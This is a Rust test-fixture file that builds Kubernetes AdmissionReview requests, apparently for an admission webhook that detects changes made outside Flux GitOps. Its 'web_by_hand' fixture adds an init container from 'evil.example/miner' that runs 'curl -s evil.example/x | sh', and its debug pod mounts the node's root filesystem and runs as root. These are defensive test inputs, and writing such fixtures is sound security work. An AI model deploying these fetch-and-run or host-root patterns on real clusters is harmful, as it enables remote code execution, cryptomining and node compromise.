//! AdmissionReview requests shaped like the ones a real kube-apiserver sends (see
//! `fixtures/admission-v1` in the project's shared test data): objects as the API server
//! stores them, with its defaults, canonical quantities, server-set metadata, managedFields and
//! the GitOps controller's labels; `oldObject` on updates; `object: null` on deletes.

use serde_json::{Value, json};

/// Who sends a request: a username and groups, as the API server authenticated them.
pub struct User {
    pub name: &'static str,
    pub groups: &'static [&'static str],
}

pub const FLUX: User = User {
    name: "system:serviceaccount:flux-system:kustomize-controller",
    groups: &[
        "system:serviceaccounts",
        "system:serviceaccounts:flux-system",
        "system:authenticated",
    ],
};
pub const ADMIN: User = User {
    name: "kubernetes-admin",
    groups: &["kubeadm:cluster-admins", "system:authenticated"],
};
pub const ALICE: User = User {
    name: "alice",
    groups: &["developers", "system:authenticated"],
};
pub const BOB: User = User {
    name: "bob",
    groups: &["oncall", "system:authenticated"],
};

const WEB_UID: &str = "5d0b7c1e-2f43-4f7e-9c1a-7b7f0f6c9a11";
const CONFIG_UID: &str = "a3f1c2d4-6e5b-4a7c-8d9e-0f1a2b3c4d5e";

/// The web Deployment as the API server stores it after Flux applied `web(version)` from Git:
/// every default filled in, quantities canonical (`0.1` → `100m`, `1.5Gi` → `1536Mi`),
/// Flux's labels added. `annotations` are extra ones set in the cluster.
pub fn web_stored(version: &str, generation: u64, annotations: &[(&str, &str)]) -> Value {
    let annotations: serde_json::Map<String, Value> = annotations
        .iter()
        .map(|(k, v)| (k.to_string(), Value::String(v.to_string())))
        .collect();
    let mut metadata = json!({
        "name": "web", "namespace": "shop", "uid": WEB_UID,
        "resourceVersion": (1000 + generation).to_string(), "generation": generation,
        "creationTimestamp": "2026-11-25T08:00:00Z",
        "labels": {
            "app": "web",
            "kustomize.toolkit.fluxcd.io/name": "apps",
            "kustomize.toolkit.fluxcd.io/namespace": "flux-system"
        },
        "managedFields": [{
            "manager": "kustomize-controller", "operation": "Apply", "apiVersion": "apps/v1",
            "time": "2026-11-25T08:00:00Z", "fieldsType": "FieldsV1",
            "fieldsV1": {"f:metadata": {"f:labels": {"f:app": {},
                "f:kustomize.toolkit.fluxcd.io/name": {}, "f:kustomize.toolkit.fluxcd.io/namespace": {}}},
                "f:spec": {"f:replicas": {}, "f:selector": {}, "f:template": {}}}
        }]
    });
    if !annotations.is_empty() {
        metadata["annotations"] = Value::Object(annotations);
    }
    json!({
        "kind": "Deployment", "apiVersion": "apps/v1",
        "metadata": metadata,
        "spec": {
            "replicas": 2,
            "selector": {"matchLabels": {"app": "web"}},
            "template": {
                "metadata": {"creationTimestamp": null, "labels": {"app": "web"}},
                "spec": {
                    "containers": [{
                        "name": "web",
                        "image": format!("ghcr.io/stefanprodan/podinfo:{version}"),
                        "ports": [{"containerPort": 9898, "protocol": "TCP"}],
                        "envFrom": [{"configMapRef": {"name": "web-config"}}],
                        "resources": {
                            "limits": {"cpu": "1", "memory": "1536Mi"},
                            "requests": {"cpu": "100m", "memory": "64Mi"}
                        },
                        "terminationMessagePath": "/dev/termination-log",
                        "terminationMessagePolicy": "File",
                        "imagePullPolicy": "IfNotPresent"
                    }],
                    "restartPolicy": "Always",
                    "terminationGracePeriodSeconds": 30,
                    "dnsPolicy": "ClusterFirst",
                    "securityContext": {},
                    "schedulerName": "default-scheduler"
                }
            },
            "strategy": {"type": "RollingUpdate",
                         "rollingUpdate": {"maxUnavailable": "25%", "maxSurge": "25%"}},
            "revisionHistoryLimit": 10,
            "progressDeadlineSeconds": 600
        },
        "status": {}
    })
}

/// shop/web created by hand instead of by Flux: Git's spec, plus what Git never set: an init
/// container on another image and another service account (everything else as the API
/// server stores it, Flux's labels included).
pub fn web_by_hand() -> Value {
    let mut web = web_stored("6.5.1", 1, &[]);
    let spec = &mut web["spec"]["template"]["spec"];
    spec["initContainers"] = json!([{
        "name": "setup", "image": "evil.example/miner:1.0",
        "command": ["/bin/sh", "-c", "curl -s evil.example/x | sh"],
        "resources": {},
        "terminationMessagePath": "/dev/termination-log",
        "terminationMessagePolicy": "File",
        "imagePullPolicy": "IfNotPresent"
    }]);
    spec["serviceAccountName"] = json!("deployer");
    spec["serviceAccount"] = json!("deployer");
    web
}

/// The ConfigMap as stored.
pub fn config_stored() -> Value {
    json!({
        "kind": "ConfigMap", "apiVersion": "v1",
        "metadata": {
            "name": "web-config", "namespace": "shop", "uid": CONFIG_UID,
            "resourceVersion": "998", "creationTimestamp": "2026-11-25T08:00:00Z",
            "labels": {"kustomize.toolkit.fluxcd.io/name": "apps",
                       "kustomize.toolkit.fluxcd.io/namespace": "flux-system"}
        },
        "data": {"PODINFO_UI_MESSAGE": "welcome to the shop"}
    })
}

/// A debugging pod that mounts the node's root filesystem and runs as root, as `kubectl run`
/// with an override would create it (the API server adds the token volume and tolerations).
pub fn debug_pod() -> Value {
    json!({
        "kind": "Pod", "apiVersion": "v1",
        "metadata": {"name": "debug", "namespace": "shop",
                     "uid": "0c9d8e7f-6a5b-4c3d-2e1f-0a9b8c7d6e5f",
                     "creationTimestamp": "2026-11-25T09:12:00Z", "labels": {"run": "debug"}},
        "spec": {
            "volumes": [
                {"name": "root", "hostPath": {"path": "/", "type": ""}},
                {"name": "kube-api-access-7xk2p", "projected": {"sources": [
                    {"serviceAccountToken": {"expirationSeconds": 3607, "path": "token"}},
                    {"configMap": {"name": "kube-root-ca.crt", "items": [{"key": "ca.crt", "path": "ca.crt"}]}}
                ], "defaultMode": 420}}
            ],
            "containers": [{
                "name": "debug", "image": "busybox:1.36",
                "command": ["sleep", "infinity"],
                "resources": {},
                "volumeMounts": [
                    {"name": "root", "mountPath": "/host"},
                    {"name": "kube-api-access-7xk2p", "readOnly": true,
                     "mountPath": "/var/run/secrets/kubernetes.io/serviceaccount"}
                ],
                "terminationMessagePath": "/dev/termination-log",
                "terminationMessagePolicy": "File",
                "imagePullPolicy": "IfNotPresent",
                "securityContext": {"runAsUser": 0}
            }],
            "restartPolicy": "Never",
            "terminationGracePeriodSeconds": 30,
            "dnsPolicy": "ClusterFirst",
            "serviceAccountName": "default",
            "serviceAccount": "default",
            "securityContext": {},
            "schedulerName": "default-scheduler",
            "tolerations": [
                {"key": "node.kubernetes.io/not-ready", "operator": "Exists", "effect": "NoExecute", "tolerationSeconds": 300},
                {"key": "node.kubernetes.io/unreachable", "operator": "Exists", "effect": "NoExecute", "tolerationSeconds": 300}
            ],
            "priority": 0,
            "enableServiceLinks": true,
            "preemptionPolicy": "PreemptLowerPriority"
        },
        "status": {}
    })
}

/// What a request is about: group, version, kind and the plural resource.
pub struct Kind {
    pub group: &'static str,
    pub version: &'static str,
    pub kind: &'static str,
    pub resource: &'static str,
}

pub const DEPLOYMENT: Kind = Kind {
    group: "apps",
    version: "v1",
    kind: "Deployment",
    resource: "deployments",
};
pub const CONFIGMAP: Kind = Kind {
    group: "",
    version: "v1",
    kind: "ConfigMap",
    resource: "configmaps",
};
pub const POD: Kind = Kind {
    group: "",
    version: "v1",
    kind: "Pod",
    resource: "pods",
};

/// An `admission.k8s.io/v1` AdmissionReview.
#[allow(clippy::too_many_arguments)]
pub fn review(
    uid: &str,
    operation: &str,
    kind: &Kind,
    name: &str,
    user: &User,
    object: Value,
    old_object: Value,
    field_manager: &str,
) -> Value {
    let options_kind = match operation {
        "CREATE" => "CreateOptions",
        "UPDATE" => "UpdateOptions",
        _ => "DeleteOptions",
    };
    let mut options = json!({"kind": options_kind, "apiVersion": "meta.k8s.io/v1"});
    if operation == "DELETE" {
        options["propagationPolicy"] = json!("Background");
    } else {
        options["fieldManager"] = json!(field_manager);
    }
    let gvk = json!({"group": kind.group, "version": kind.version, "kind": kind.kind});
    let gvr = json!({"group": kind.group, "version": kind.version, "resource": kind.resource});
    json!({
        "kind": "AdmissionReview", "apiVersion": "admission.k8s.io/v1",
        "request": {
            "uid": uid,
            "kind": gvk, "resource": gvr, "requestKind": gvk, "requestResource": gvr,
            "name": name, "namespace": "shop", "operation": operation,
            "userInfo": {"username": user.name, "groups": user.groups},
            "object": object, "oldObject": old_object,
            "dryRun": false, "options": options
        }
    })
}
